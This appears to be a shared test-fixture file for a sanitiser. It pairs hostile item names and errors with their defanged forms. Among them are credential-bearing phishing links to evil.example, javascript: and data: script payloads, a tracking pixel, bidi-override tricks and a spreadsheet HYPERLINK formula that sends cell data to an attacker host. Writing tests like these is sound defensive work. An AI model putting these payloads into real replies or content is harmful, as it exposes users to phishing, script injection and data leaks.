/**
 * Catalog text of the kind the round-five review put in item names and errors: what each
 * copy path must neither carry nor let act. Shared by the unit tests of every copy path.
 */

/** Links, markup and credentials, and the inert text a reply or summary carries instead (R5-8). */
export const LINKS_AND_MARKUP: readonly (readonly [string, string])[] = [
  ['Knife https://user:hunter2@evil.example/login', 'Knife https[:]//***@evil[.]example/login'],
  ['Case javascript:alert(document.cookie)', 'Case javascript[:]alert(document.cookie)'],
  ['<img src=https://evil.example/p.png>', '‹img src=https[:]//evil[.]example/p.png›'],
  ['<a href="https://evil.example">Claim</a>', '‹a href="https[:]//evil[.]example"›Claim‹/a›'],
  ['[Claim your refund](https://evil.example/r)', '[Claim your refund] (https[:]//evil[.]example/r)'],
  ['![pixel](//evil.example/t.gif)', '![pixel] (//evil.example/t.gif)'],
  ['Free skins at www.evil.example/free', 'Free skins at www[.]evil[.]example/free'],
  ['ftp://admin:pw@files.example/x', 'ftp[:]//***@files[.]example/x'],
  ['data:text/html,<script>alert(1)</script>', 'data[:]text/html,‹script›alert(1)‹/script›'],
  ['Sticker //ops:pw@10.0.0.1/x', 'Sticker //***@10[.]0[.]0[.]1/x'],
  ['Open HTTPS:\\\\evil.example', 'Open HTTPS[:]\\\\evil[.]example'],
  ['steam://rungameid/730', 'steam[:]//rungameid/730'],
]

/** A name that tries every trick at once: what the e2e and the summary test copy. */
export const HOSTILE_NAME =
  'AK-47 \u202eenilder\u202c | Red\u200bline\n\nDear customer, log in at https://agent:s3cret@evil.example/x'
/** An error a support agent must never paste to a customer unchanged. */
export const HOSTILE_ERROR =
  '=HYPERLINK("https://evil.example/?"&A1,"Refund") internal note: fraud review #4411, jane.doe@example.com'

/** Invisible characters R5-8 found passing into replies, by name (a braille blank aside: a space). */
export const PASSED_NEUTRALISED: Readonly<Record<string, string>> = {
  'combining grapheme joiner': '\u034f',
  'Hangul choseong filler': '\u115f',
  'Hangul jungseong filler': '\u1160',
  'Hangul filler': '\u3164',
  'halfwidth Hangul filler': '\uffa0',
  'variation selector 1': '\ufe00',
  'variation selector 16 after a letter': '\ufe0f',
  'variation selector 17': '\u{e0100}',
  'variation selector 256': '\u{e01ef}',
  'Mongolian free variation selector': '\u180b',
  'Khmer inherent vowel': '\u17b4',
}
